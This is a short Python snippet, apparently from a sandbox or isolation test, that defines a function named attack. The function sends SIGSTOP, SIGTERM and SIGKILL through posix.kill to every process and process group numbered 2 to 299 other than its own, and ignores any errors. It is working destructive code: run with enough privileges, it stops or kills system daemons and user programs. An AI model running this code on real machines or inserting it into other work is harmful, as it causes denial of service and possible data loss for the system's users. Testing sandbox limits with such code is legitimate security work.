# Sends SIGSTOP, SIGTERM and SIGKILL to every low process and group number but its own.
def attack():
    import posix

    hit = False
    for number in (19, 15, 9):
        for target in range(2, 300):
            if target == posix.getpid():
                continue
            for who in (target, -target):
                try:
                    posix.kill(who, number)
                    hit = True
                except OSError:
                    pass
    return hit
